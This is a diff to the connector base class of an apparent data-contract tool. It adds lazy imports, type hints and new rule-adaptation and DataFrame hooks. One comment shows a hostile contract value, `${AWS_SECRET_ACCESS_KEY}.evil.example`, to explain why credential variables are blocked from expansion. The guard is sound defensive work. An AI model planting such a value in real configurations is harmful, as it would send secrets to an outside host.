@@ -5,13 +5,16 @@ from __future__ import annotations
 import os
 import re
 from abc import ABC, abstractmethod
-from typing import Any
-
-import ibis
-import ibis.expr.datatypes as dt
-from sqlglot import exp
+from collections.abc import Sequence
+from typing import TYPE_CHECKING, Any, Self
 
 from lockgate.errors import LockgateError
+
+if TYPE_CHECKING:
+    import ibis
+    import pandas as pd
+
+    from lockgate.contract import rules as ir
 
 _ENV = re.compile(r"\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}")
 # A contract is untrusted: `host: ${AWS_SECRET_ACCESS_KEY}.evil.example` would send any variable
@@ -27,7 +30,7 @@ def expand_env(value: Any) -> Any:
     if not isinstance(value, str):
         return value
 
-    def replace(match: re.Match) -> str:
+    def replace(match: re.Match[str]) -> str:
         name, default = match.group(1), match.group(2)
         if not name.startswith(ENV_PREFIX) or name in CREDENTIAL_VARIABLES:
             raise LockgateError(
@@ -102,27 +105,41 @@ class Connector(ABC):
         exist."""
 
     @abstractmethod
-    def fetch(self, sql: str) -> tuple[list[str], list[tuple]]:
+    def fetch(self, sql: str) -> tuple[list[str], list[tuple[Any, ...]]]:
         """Run one query; return column names and rows."""
 
     @abstractmethod
-    def type_parser(self):
+    def type_parser(self) -> Any:
         """The ibis type parser of this dialect (`from_string`)."""
 
     # an optional hook (no-op by default), not an abstract method
     def close(self) -> None:  # noqa: B027  # pragma: no cover - trivial
         pass
 
-    def __enter__(self):
+    def unsupported(self, rule: ir.Rule) -> str | None:
+        """Why this server cannot check `rule` (a failed result says so), or None."""
+        return None
+
+    def adapt(self, rule: ir.Rule) -> ir.Rule:
+        """`rule` as this server must run it to mean what it means elsewhere (e.g. a pattern
+        in the server's regex dialect); most servers run it as it is."""
+        return rule
+
+    def __enter__(self) -> Self:
         return self
 
-    def __exit__(self, *exc):
+    def __exit__(self, *exc: object) -> None:
         self.close()
 
     # -- shared ----------------------------------------------------------------------------------
 
     def table_expr(self, table: str) -> ibis.Table | None:
         """An unbound ibis table with the live column types, or None when the table is missing."""
+        # ibis and sqlglot are imported where a plan is built, not with the connector: a check
+        # whose plan is cached (lockgate.engines.sql.plan_cache) needs neither
+        import ibis
+        import ibis.expr.datatypes as dt
+
         cols = self.columns(table)
         if cols is None:
             return None
@@ -131,19 +148,26 @@ class Connector(ABC):
         for name, native in cols:
             try:
                 schema[name] = parse(native)
-            except (
-                Exception
-            ):  # an exotic type ibis cannot name: still checkable for nulls/duplicates
+            except Exception:
+                # an exotic type ibis cannot name: still checkable for nulls/duplicates
                 schema[name] = dt.unknown
         return ibis.table(ibis.schema(schema), name=table, database=self.namespace)
 
-    def to_sql(self, expr) -> str:
-        return str(ibis.to_sql(expr, dialect=self.dialect))
+    def to_sql(self, expr: ibis.Expr, star: Sequence[str] | None = None) -> str:
+        """SQL text of an ibis expression; `star`: the columns a `SELECT *` must name instead
+        (for expressions built on a narrowed table, `lockgate.engines.sql.scan_batches`)."""
+        from lockgate.connectors.dialect_sql import compile_sql
+
+        return compile_sql(expr, self.dialect, star=star)
 
     def quote_table(self, table: str) -> str:
+        from sqlglot import exp
+
         return exp.table_(table, db=self.namespace, quoted=True).sql(dialect=self.dialect)
 
     def quote_column(self, column: str) -> str:
+        from sqlglot import exp
+
         return exp.to_identifier(column, quoted=True).sql(dialect=self.dialect)
 
     def fetch_rule_value(self, sql: str) -> Any:
@@ -151,6 +175,10 @@ class Connector(ABC):
         (`LOCKGATE_STATEMENT_TIMEOUT`); connectors whose database has no timeout of its own
         override it."""
         return self.fetch_value(sql)
+
+    def fetch_frame(self, table: str) -> pd.DataFrame:
+        """The whole table as a pandas DataFrame (for the frame engine)."""
+        raise LockgateError(f"a {type(self).__name__} cannot read tables into DataFrames")
 
     def fetch_value(self, sql: str) -> Any:
         names, rows = self.fetch(sql)
